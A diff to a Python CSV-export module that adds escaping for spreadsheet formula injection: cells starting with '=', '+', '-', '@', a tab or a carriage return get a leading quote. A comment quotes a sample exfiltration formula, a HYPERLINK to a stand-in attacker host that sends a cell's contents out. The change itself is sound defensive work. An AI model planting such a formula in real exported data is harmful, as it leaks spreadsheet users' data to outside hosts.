@@ -2,9 +2,10 @@
 
 Rows keep plain Python types (numbers as numbers, indices and flags as lists), so
 ``pandas.DataFrame(rows)`` gets numeric columns; only the writers (:func:`csv_text`,
-:func:`summary_table`) format numbers as text. :func:`pairs_frame` and :func:`summary_frame`
-build the same tables as pandas DataFrames with stated dtypes (pandas is an optional extra:
-``pip install 'newsdrift[pandas]'``).
+:func:`summary_table`) format numbers as text. Every CSV drift writes goes through
+:func:`format_csv`, which escapes text a spreadsheet would run as a formula.
+:func:`pairs_frame` and :func:`summary_frame` build the same tables as pandas DataFrames with
+stated dtypes (pandas is an optional extra: ``pip install 'newsdrift[pandas]'``).
 """
 
 from __future__ import annotations
@@ -18,7 +19,8 @@ from typing import TYPE_CHECKING, Any
 if TYPE_CHECKING:
     import pandas
 
-__all__ = ["pair_rows", "summary_rows", "csv_text", "format_csv", "summary_table", "CSV_COLUMNS",
+__all__ = ["pair_rows", "summary_rows", "csv_text", "format_csv", "csv_cell", "summary_table",
+           "CSV_COLUMNS",
            "SUMMARY_COLUMNS", "FRAME_COLUMNS", "format_value", "pairs_frame", "summary_frame"]
 
 Report = Mapping[str, Any]
@@ -105,17 +107,44 @@ def format_value(value: Any, decimals: int = 4) -> str:
     return str(value)
 
 
-def format_csv(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
-    """CSV text with a header, every value formatted by :func:`format_value`.
+#: a text cell starting with one of these is a formula to a spreadsheet (OWASP, "CSV
+#: injection"): ``=HYPERLINK("http://attacker.example/?d="&B2)`` in an article would run
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
-    >>> format_csv(["a", "b"], [{"a": 0.5, "b": None}])
-    'a,b\n0.5000,\n'
+
+def csv_cell(value: Any) -> str:
+    """One CSV cell: :func:`format_value`, and text that a spreadsheet would evaluate as a
+    formula (starting with ``= + - @``, a tab or a carriage return) prefixed with ``'``, which
+    spreadsheets show as text. Numbers stay numbers (``-0.25`` is not text).
+
+    >>> csv_cell("=1+2"), csv_cell(-0.25), csv_cell("-2-3"), csv_cell(["@x", "y"])
+    ("'=1+2", '-0.2500', "'-2-3", "'@x y")
+    """
+    text = format_value(value)
+    if isinstance(value, (int, float)) or value is None:  # bools are ints
+        return text
+    return "'" + text if text.startswith(_FORMULA_START) else text
+
+
+def format_csv(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
+    r"""CSV text with a header, every value a :func:`csv_cell` (numbers formatted by
+    :func:`format_value`; text that a spreadsheet would run as a formula escaped; a row with a
+    carriage return in a cell is quoted whole, so it stays one row). Every CSV drift writes
+    goes through here.
+
+    >>> format_csv(["a", "b"], [{"a": 0.5, "b": "=cmd()"}])
+    "a,b\n0.5000,'=cmd()\n"
     """
     buf = io.StringIO()
     w = csv.DictWriter(buf, fieldnames=list(columns), lineterminator="\n")
+    # a carriage return alone is not quoted by the csv module (it only quotes the line
+    # terminator), yet every reader ends a line there: a row holding one is quoted whole
+    quoted = csv.DictWriter(buf, fieldnames=list(columns), lineterminator="\n",
+                            quoting=csv.QUOTE_ALL)
     w.writeheader()
     for row in rows:
-        w.writerow({k: format_value(v) for k, v in row.items()})
+        cells = {k: csv_cell(v) for k, v in row.items()}
+        (quoted if any("\r" in c for c in cells.values()) else w).writerow(cells)
     return buf.getvalue()
 
 
